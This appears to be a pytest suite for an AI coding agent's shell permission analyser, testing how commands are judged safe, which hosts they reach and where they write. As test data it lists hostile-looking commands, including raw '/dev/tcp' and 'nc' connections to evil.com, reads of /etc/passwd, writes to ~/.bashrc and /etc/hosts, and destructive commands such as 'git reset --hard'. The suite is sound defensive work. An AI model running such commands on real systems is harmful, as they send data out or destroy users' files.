from typing import Any

import pytest

from agent_tui.protocol.permissions import PermissionKind

READ, WRITE, EXECUTE, NETWORK, TOOL = PermissionKind


def safe(analysis: Any) -> bool:
    return analysis.clear and not analysis.touches and all(part.safe for part in analysis.parts)


def test_a_name_found_in_the_project_is_not_the_one_that_is_known(ground: Any) -> None:
    folder = ground.project / "build/bin"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "ls").write_text("#!/bin/sh\n")
    (ground.project / "wc").write_text("#!/bin/sh\n")
    try:
        assert safe(ground.analyse("ls", path="/usr/bin:/bin"))
        assert not safe(ground.analyse("ls", path=f"{folder}:/usr/bin"))
        assert not safe(ground.analyse("wc README.md", path=":/usr/bin"))
        assert not safe(ground.analyse("wc README.md", path=".:/usr/bin"))
        assert safe(ground.analyse("echo x", path=f"{folder}:/usr/bin"))
    finally:
        (folder / "ls").unlink()
        (ground.project / "wc").unlink()


def test_a_wrapper_found_in_the_project_is_not_the_one_that_is_known(ground: Any) -> None:
    folder = ground.project / "build/bin"
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("timeout", "time", "command"):
        (folder / name).write_text("#!/bin/sh\n")
    path = f"{folder}:/usr/bin"
    try:
        assert safe(ground.analyse("timeout 5 ls", path="/usr/bin:/bin"))
        assert not safe(ground.analyse("timeout 5 ls", path=path))
        assert not safe(ground.analyse("nice timeout 5 ls", path=path))
        assert safe(ground.analyse("time ls && command ls", path=path))
        assert not safe(ground.analyse("command time ls", path=path))
        assert not safe(ground.analyse("env command ls", path=path))
    finally:
        for name in ("timeout", "time", "command"):
            (folder / name).unlink()


def test_a_wildcard_is_judged_by_what_it_matches(ground: Any) -> None:
    (ground.project / "docs/-ox").write_text("")
    try:
        assert safe(ground.analyse("sort src/*.py"))
        assert not safe(ground.analyse("cd docs && sort *"))
        assert safe(ground.analyse("cd docs && sort ./*d"))
        assert not safe(ground.analyse("cat .e*"))
        assert not safe(ground.analyse("cat docs/link*"))
    finally:
        (ground.project / "docs/-ox").unlink()


def test_a_search_is_asked_for_only_where_it_would_show_secrets(ground: Any) -> None:
    assert not safe(ground.analyse("grep -rn KEY ."))
    assert safe(ground.analyse("grep -rn KEY src"))
    assert safe(ground.analyse("grep -rn KEY . --include='*.py'"))
    assert not safe(ground.analyse("grep -rn KEY . --include='*'"))
    assert safe(ground.analyse("rg KEY"))
    assert not safe(ground.analyse("rg --hidden KEY"))
    assert safe(ground.analyse("find . -name '.env'"))
    assert safe(ground.analyse("ls -la .env"))
    assert safe(ground.analyse("git grep KEY"))


def test_names_fed_to_a_reader_stay_in_the_project(ground: Any) -> None:
    assert safe(ground.analyse("find src -name '*.py' | xargs wc -l"))
    assert safe(ground.analyse("rg -l import src | xargs head -3"))
    for command in (
        "find . | xargs cat",
        "find src | xargs rm",
        "find src -exec cat {} +",
        "cat list.txt | xargs cat",
        "echo /etc/passwd | xargs cat",
        "find src | xargs -I{} sh -c 'cat {}'",
        "find / | xargs ls",
        "find src -printf '/etc/passwd' | xargs cat",
        "xargs cat < list.txt",
        "find src > x | xargs cat",
    ):
        assert not safe(ground.analyse(command)), command


def test_a_name_with_a_blank_in_the_tree_ends_the_trust_in_xargs(ground: Any) -> None:
    odd = ground.project / "tests/x etc"
    odd.mkdir()
    try:
        assert not safe(ground.analyse("find tests | xargs cat"))
        assert safe(ground.analyse("find src | xargs cat"))
    finally:
        odd.rmdir()


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cd src && git status", True),
        ("cd docs && git log", True),
        ("cd build/nested && git status", False),
        ("cd build/bare && git log", False),
        ("git -C build/nested status", False),
        ("cd nothing && ls", False),
        ("cd src && cd ../.. && ls", False),
        ("cd src; cat ../README.md", True),
        ("cd src; cat ../../other/secret.txt", False),
        ("(cd src); cat ../other/secret.txt", False),
        ("cd src | cat; cat app.py", True),
    ],
)
def test_cd_is_followed_and_git_stays_in_its_own_work_tree(ground: Any, command: str, expected: bool) -> None:
    (ground.project / "build/nested/.git").mkdir(parents=True, exist_ok=True)
    for name in ("objects", "refs"):
        (ground.project / "build/bare" / name).mkdir(parents=True, exist_ok=True)
    (ground.project / "build/bare/HEAD").write_text("")

    assert safe(ground.analyse(command)) is expected


def test_git_needs_a_strong_sandbox_and_nothing_else_does(ground: Any) -> None:
    assert [part.needs_strong for part in ground.analyse("ls; git status; git --version").parts] == [
        False,
        True,
        False,
    ]


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("curl https://a.com/x -o y", {"a.com"}),
        ("curl -s a.com:8080/x", {"a.com"}),
        ("curl -d @data.csv https://user:pw@b.org/", {"b.org"}),
        ("wget -q https://a.com/x", {"a.com"}),
        ("git clone https://github.com/a/b", {"github.com"}),
        ("git clone git@github.com:a/b.git", {"raw:github.com"}),
        ("git push", {"raw:*"}),
        ("ssh -p 22 user@h.com ls", {"raw:h.com"}),
        ("scp a.txt u@h.com:/x", {"raw:h.com"}),
        ("rsync -a src/ h.com:/x", {"raw:h.com"}),
        ("dig +short x.evil.com", {"raw:x.evil.com"}),
        ("ping -c1 evil.com", {"raw:evil.com"}),
        ("nc evil.com 80", {"raw:evil.com"}),
        ("echo x > /dev/tcp/evil.com/80", {"raw:evil.com"}),
        ("cat < /dev/udp/evil.com/53", {"raw:evil.com"}),
        ("npm install left-pad", {"registry.npmjs.org"}),
        ("pip install requests", {"pypi.org", "files.pythonhosted.org"}),
        ("python3 -m pip install x", {"pypi.org", "files.pythonhosted.org"}),
        ("pip install --index-url https://my.org/simple x", {"my.org"}),
        ("timeout 5 curl e.com", {"e.com"}),
        ("bash -c 'curl e.com'", {"e.com"}),
        ("xargs curl e.com", {"e.com"}),
        ("openssl s_client -connect e.com:443", {"raw:e.com"}),
        ("python3 -m http.server", {"raw:*"}),
        ("psql -h db.e.com", {"raw:db.e.com"}),
        ("docker pull alpine", {"registry-1.docker.io", "auth.docker.io"}),
        ("getent hosts x.e.com", {"raw:x.e.com"}),
    ],
)
def test_a_network_command_names_its_hosts(ground: Any, command: str, hosts: set[str]) -> None:
    touches = ground.analyse(command).touches

    assert {t.target for t in touches if t.kind is NETWORK} == hosts


def test_git_names_the_hosts_of_its_remotes(ground: Any) -> None:
    config = ground.project / ".git/config"
    before = config.read_text()
    config.write_text(f'{before}\n[remote "origin"]\n\turl = https://git.e.com/a\n')
    try:
        assert [t.target for t in ground.analyse("git fetch").touches] == ["git.e.com"]
    finally:
        config.write_text(before)


@pytest.mark.parametrize(
    ("command", "folder"),
    [
        ("echo x > /home/u/.bashrc", "/home/u"),
        ("cp a.txt /home/u/x", "/home/u"),
        ("cp -t /home/u a.txt", "/home/u"),
        ("mv a.txt ../other/b", "/ws/other"),
        ("touch /ws/other/new", "/ws/other"),
        ("tee -a ~/x", "/home/u"),
        ("tar czf ~/x.tgz src", "/home/u"),
        ("tar xf x.tar -C ../other", "/ws/other"),
        ("unzip a.zip -d ~/", "/home/u"),
        ("sed -i s/a/b/ ~/x", "/home/u"),
        ("dd if=a of=/ws/other/x", "/ws/other"),
        ("rsync -a src/ ../other/", "/ws/other"),
        ("git clone https://e.com/a ../other/b", "/ws/other"),
        ("git worktree add ../wt", "/ws"),
        ("git -C ../other clean -fdx", "/ws/other"),
        ("curl -o ~/x https://e.com", "/home/u"),
        ("wget -O ~/x https://e.com", "/home/u"),
        ("wget -P ../other https://e.com", "/ws/other"),
        ("gcc a.c -o ../other/a", "/ws/other"),
        ("ssh-keygen -f ~/.ssh/id_x", "/home/u/.ssh"),
        ("pip install --target ../other x", "/ws/other"),
        ("python3 -c \"open('/home/u/x','w')\"", "/home/u"),
        ("echo p | sed 'w /home/u/x'", "/home/u"),
        ("awk '{print > \"/home/u/x\"}' a.txt", "/home/u"),
        ("ln -s a.txt ~/x", "/home/u"),
        ("make DESTDIR=../other install", "/ws/other"),
        ("make -C ../other", "/ws/other"),
        ("cd ../other && make", "/ws/other"),
        ("cd ../other; touch x", "/ws/other"),
        ("(cd ../other; touch x)", "/ws/other"),
        ("bash -c 'echo x > ~/y'", "/home/u"),
        ("npm install --prefix ../other", "/ws/other"),
        ("cmake --install . --prefix ../other", "/ws/other"),
        ("ffmpeg -i a.mp4 ~/b.mp4", "/home/u"),
        ("zip -r ~/x.zip src", "/home/u"),
        ("git archive -o ~/x.tar HEAD", "/home/u"),
        ("git format-patch -o ~/ HEAD", "/home/u"),
        ("sudo tee /etc/hosts", "/etc"),
        ("install -m 755 a.txt ../other/bin", "/ws/other"),
        ("X=../other; touch $X/a", "/ws/other"),
        ("find . -name x -fprint ~/y", "/home/u"),
        ("sort names.txt -o ../other/x", "/ws/other"),
        ("jq . package.json > ../other/x", "/ws/other"),
        ("crontab - < a.txt; echo x >> ../other/y", "/ws/other"),
    ],
)
def test_a_write_outside_names_the_directory(ground: Any, command: str, folder: str) -> None:
    touches = ground.analyse(command).touches

    assert ground.here(f"{folder}/").rstrip("/") in {
        t.target for t in touches if t.kind is WRITE and t.outside
    }


def test_reading_commands_do_not_pretend_to_write(ground: Any) -> None:
    for command in (
        "cat ../other/secret.txt",
        "python3 ../other/x.py",
        "rm docs/link_to_config",
        "grep -r x ../other",
        "gcc -I/usr/include a.c",
    ):
        assert not [t for t in ground.analyse(command).touches if t.kind is WRITE], command


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("git commit -m 'a b'", "Bash(git commit *)"),
        ("npm run test -- -x", "Bash(npm run test *)"),
        ("pytest -q tests", "Bash(pytest *)"),
        ("cargo build --release", "Bash(cargo build *)"),
        ("python3 -c 'x'", "Bash(python3 -c 'x')"),
        ("node a.js", "Bash(node a.js)"),
        ("make test", "Bash(make test)"),
        ("npx prettier .", "Bash(npx prettier .)"),
        ("find . -delete", "Bash(find . -delete)"),
        ("awk '{print > \"x\"}' a", "Bash(awk '{print > \"x\"}' a)"),
        ("sed -i s/a/b/ x", "Bash(sed -i s/a/b/ x)"),
        ("docker run x", "Bash(docker run x)"),
        ("timeout 5 pytest", "Bash(timeout 5 pytest)"),
        ("git -c a=b commit", "Bash(git -c a=b commit)"),
        ("git log --output=x", "Bash(git log --output=x)"),
        ("sort -o x y", "Bash(sort -o x y)"),
        ("rm *.o", "Bash(rm \\*.o)"),
        ("./run.sh", "Bash(./run.sh)"),
        ("bash x.sh", "Bash(bash x.sh)"),
        ("sudo ls", "Bash(sudo ls)"),
        ("xargs rm", "Bash(xargs rm)"),
    ],
)
def test_always_keeps_no_more_than_the_program_allows(ground: Any, command: str, pattern: str) -> None:
    assert [part.pattern for part in ground.analyse(command).parts] == [pattern]


@pytest.mark.parametrize(
    "command",
    [
        "sudo rm x",
        "dd if=a of=b",
        "git push --force",
        "git reset --hard",
        "docker run -v /:/h x",
        "shutdown now",
        "crontab x",
        "chmod -R 777 .",
        "npm publish",
        "eval x",
        "terraform destroy",
    ],
)
def test_grave_commands_are_of_high_risk(ground: Any, command: str) -> None:
    assert "high" in {part.risk.value for part in ground.analyse(command).parts}


def test_an_unreadable_or_endless_tree_asks(ground: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("agent_tui.permissions.shell.world.MAX_ENTRIES", 1)

    analysis = ground.analyse("grep -rn x src tests docs")

    assert not safe(analysis)
